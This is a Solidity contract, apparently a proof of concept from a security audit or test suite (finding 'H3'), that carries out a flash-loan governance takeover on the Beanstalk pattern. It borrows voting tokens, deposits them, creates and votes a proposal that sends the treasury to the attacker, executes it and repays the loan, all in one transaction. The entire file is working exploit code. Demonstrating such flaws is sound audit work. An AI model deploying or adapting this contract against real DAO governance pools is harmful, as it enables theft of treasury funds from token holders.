// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IGovTypes} from "../../interfaces/IGovTypes.sol";

interface IGovPoolTakeover {
    function multicall(bytes[] calldata data) external returns (bytes[] memory);

    function deposit(uint256 amount, uint256[] calldata nftIds) external;

    function createProposalAndVote(
        string calldata descriptionURL,
        IGovTypes.ProposalAction[] calldata actionsOnFor,
        IGovTypes.ProposalAction[] calldata actionsOnAgainst,
        uint256 amount,
        uint256[] calldata nftIds
    ) external returns (uint256);

    function latestProposalId() external view returns (uint256);

    function execute(
        uint256 proposalId,
        IGovTypes.ProposalAction[] calldata actionsOnFor,
        IGovTypes.ProposalAction[] calldata actionsOnAgainst
    ) external payable;
}

/// @notice Attacker (H3, the Beanstalk pattern): borrows governance tokens in a flash loan and, in the same
/// transaction, deposits them, creates and votes a proposal paying the treasury to itself (the web's "Deposit,
/// Create and Vote" multicall), executes it and repays the loan from the payout.
contract FlashLoanTakeover is IERC3156FlashBorrower {
    IGovPoolTakeover public immutable pool;
    address public immutable userKeeper;
    IERC20 public immutable token;
    IGovTypes.ProposalAction[] private _actions;

    constructor(IGovPoolTakeover pool_, address userKeeper_, IERC20 token_) {
        pool = pool_;
        userKeeper = userKeeper_;
        token = token_;
    }

    /// @param actions the proposal: typically a treasury transfer of `token` to this contract
    function attack(IERC3156FlashLender lender, uint256 amount, IGovTypes.ProposalAction[] calldata actions) external {
        delete _actions;
        for (uint256 i; i < actions.length; ++i) _actions.push(actions[i]);
        lender.flashLoan(this, address(token), amount, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        IGovTypes.ProposalAction[] memory actions = _actions;
        token.approve(userKeeper, amount);
        bytes[] memory calls = new bytes[](2);
        calls[0] = abi.encodeCall(IGovPoolTakeover.deposit, (amount, new uint256[](0)));
        calls[1] = abi.encodeCall(
            IGovPoolTakeover.createProposalAndVote,
            ("ipfs://takeover", actions, new IGovTypes.ProposalAction[](0), amount, new uint256[](0))
        );
        pool.multicall(calls);
        pool.execute(pool.latestProposalId(), actions, new IGovTypes.ProposalAction[](0));
        token.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
